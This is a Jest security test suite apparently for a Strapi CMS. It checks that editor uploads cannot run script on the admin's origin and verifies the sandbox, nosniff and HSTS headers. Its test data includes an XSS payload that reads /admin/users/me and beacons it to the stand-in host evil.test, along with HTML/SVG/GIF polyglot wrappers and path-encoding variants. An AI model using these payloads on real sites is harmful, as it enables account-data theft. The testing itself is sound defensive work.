/**
 * @jest-environment node
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import sharp from 'sharp';
import { inviteAdmin } from '../helpers/admin-users';
import { TEST_ADMIN, startCmsWithMail, type CmsWithMail } from '../helpers/cms-harness';

// Issue 38 §6 and §9: an editor (Strapi's Editor role, which may upload) must not be able to put
// anything in /uploads that runs script on the CMS's origin, where the admin keeps its token; and
// the CMS's headers (HSTS over https only, Cross-Origin-Resource-Policy). One CMS, behind a
// trusted proxy (CMS_TRUST_PROXY) as in production, so that both plain http and https are seen.
jest.setTimeout(5 * 60_000);

const EDITOR = { email: 'uploader@meridian.test', password: 'Uploader-Passw0rd-2026!' };
let harness: CmsWithMail;
let editorToken = '';

beforeAll(async () => {
  harness = await startCmsWithMail({ tempPrefix: 'meridian-uploads-', env: { CMS_TRUST_PROXY: 'true' } });
  // The super admin invites an editor, who accepts: the editor's own session, as in the admin.
  const login = await harness.api('/admin/login', { method: 'POST', json: TEST_ADMIN });
  const adminToken = login.body.data.token;
  editorToken = await inviteAdmin(harness.api, adminToken, 'strapi-editor', {
    firstname: 'Upload',
    lastname: 'Editor',
    ...EDITOR,
  });
});
afterAll(() => harness?.stop());

/** The editor uploads one file through the media library's API. */
function upload(name: string, type: string, bytes: Buffer | string) {
  const form = new FormData();
  form.append('files', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name);
  return harness.api('/upload', { method: 'POST', body: form, token: editorToken });
}

/** A GET of a request target exactly as written (fetch would normalize `/./` and `..`). */
function rawGet(target: string): Promise<{ status: number; headers: http.IncomingHttpHeaders }> {
  const { hostname, port } = new URL(harness.cms.url);
  return new Promise((resolve, reject) => {
    http
      .get({ hostname, port, path: target }, (response) => {
        response.resume();
        response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers }));
      })
      .on('error', reject);
  });
}

const SCRIPT =
  'fetch("/admin/users/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.test", t))';

it('refuses an editor’s HTML and JavaScript with a message naming the type, and keeps nothing of them', async () => {
  const html = await upload('page.html', 'text/html', `<!doctype html><script>${SCRIPT}</script>`);
  const script = await upload('app.js', 'text/javascript', SCRIPT);
  // Named as an image, declared as one: the content (or the name's type) still decides.
  const disguised = await upload('page.svg.html', 'image/png', `<html><script>${SCRIPT}</script></html>`);
  // A GIF that is also a page, sent as "some file": its content is an image, but it would be
  // stored and served under its name, as HTML.
  const polyglot = await upload(
    'page.html',
    'application/octet-stream',
    `GIF89a=0;<html><script>${SCRIPT}</script></html>`,
  );
  for (const [answer, type] of [
    [html, 'text/html'],
    [script, 'text/javascript'],
    [disguised, 'text/html'],
    [polyglot, 'text/html'],
  ] as const) {
    expect(answer.status).toBe(400);
    expect(answer.body.error.message).toBe(
      `File type '${type}' is not allowed: upload an image, a video or a PDF`,
    );
  }
  const files = await harness.api('/upload/files', { token: editorToken });
  expect(files.body.results.map((file: { name: string }) => file.name)).toEqual([]);
  expect(fs.readdirSync(path.join(harness.workDir, 'public', 'uploads'))).toEqual([]);
});

it('takes images (SVG included) and PDF, and serves them so that none runs script on the CMS’s origin', async () => {
  const png = await sharp({
    create: { width: 400, height: 300, channels: 3, background: { r: 20, g: 90, b: 200 } },
  })
    .png()
    .toBuffer();
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${SCRIPT}</script><rect width="10" height="10"/></svg>`;
  const uploaded = await Promise.all([
    upload('cover.png', 'image/png', png),
    upload('logo.svg', 'image/svg+xml', svg),
    upload('brand-kit.pdf', 'application/pdf', '%PDF-1.4\n%%EOF\n'),
  ]);
  for (const answer of uploaded) expect(answer.status).toBe(201);
  const [cover, logo, pdf] = uploaded.map((answer) => answer.body[0]);
  // The media library lists them, with the image's thumbnail (the admin's grid shows it).
  expect(cover.formats.thumbnail.url).toMatch(/^\/uploads\/thumbnail_/);

  const served = await Promise.all(
    [cover.url, cover.formats.thumbnail.url, logo.url, pdf.url].map((url) => harness.api(url)),
  );
  const [image, thumbnail, vector, document] = served;
  for (const answer of served) {
    expect(answer.status).toBe(200);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toMatch(/^default-src 'none';.*; sandbox$/);
    // The site (another origin) shows them.
    expect(answer.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
  }
  expect(image.headers.get('content-type')).toBe('image/png');
  expect(thumbnail.headers.get('content-type')).toBe('image/png');
  expect(document.headers.get('content-type')).toBe('application/pdf');
  for (const inline of [image, thumbnail, document])
    expect(inline.headers.get('content-disposition')).toBeNull();
  // SVG can hold script: an <img> still shows it, opened on its own it is a download.
  expect(vector.headers.get('content-type')).toBe('image/svg+xml');
  expect(vector.headers.get('content-disposition')).toBe('attachment');
});

it('serves a file already in /uploads that is not media (from before the allow-list) as a sandboxed download, however its path is spelt', async () => {
  const uploads = path.join(harness.workDir, 'public', 'uploads');
  fs.writeFileSync(path.join(uploads, 'old_page.html'), `<script>${SCRIPT}</script>`);
  fs.writeFileSync(path.join(uploads, 'old_app.js'), SCRIPT);
  const targets = [
    '/uploads/old_page.html',
    '/uploads/old_app.js',
    // The CMS's static server decodes and resolves these into the uploads folder too.
    '/%75ploads/old_page.html',
    '/uploads%2Fold_page.html',
    '/./uploads/old_page.html',
    '/api/../uploads/old_page.html',
  ];
  for (const target of targets) {
    const { status, headers } = await rawGet(target);
    expect([target, status]).toEqual([target, 200]);
    expect([target, headers['content-disposition']]).toEqual([target, 'attachment']);
    expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
});

it('sends HSTS over https only, and keeps everything but uploads to its own origin', async () => {
  const paths = ['/admin/init', '/api/articles', '/uploads/none.png'];
  const plain = await Promise.all(paths.map((pathname) => harness.api(pathname)));
  const https = await Promise.all(
    paths.map((pathname) => harness.api(pathname, { headers: { 'x-forwarded-proto': 'https' } })),
  );
  for (const answer of plain) expect(answer.headers.get('strict-transport-security')).toBeNull();
  for (const answer of https) {
    expect(answer.headers.get('strict-transport-security')).toBe('max-age=31536000; includeSubDomains');
  }
  expect(plain.map((answer) => answer.headers.get('cross-origin-resource-policy'))).toEqual([
    'same-origin',
    'same-origin',
    'cross-origin',
  ]);
  // The admin keeps its own CSP; only uploads get the sandbox.
  expect(plain[0].headers.get('content-security-policy')).not.toContain('sandbox');
});
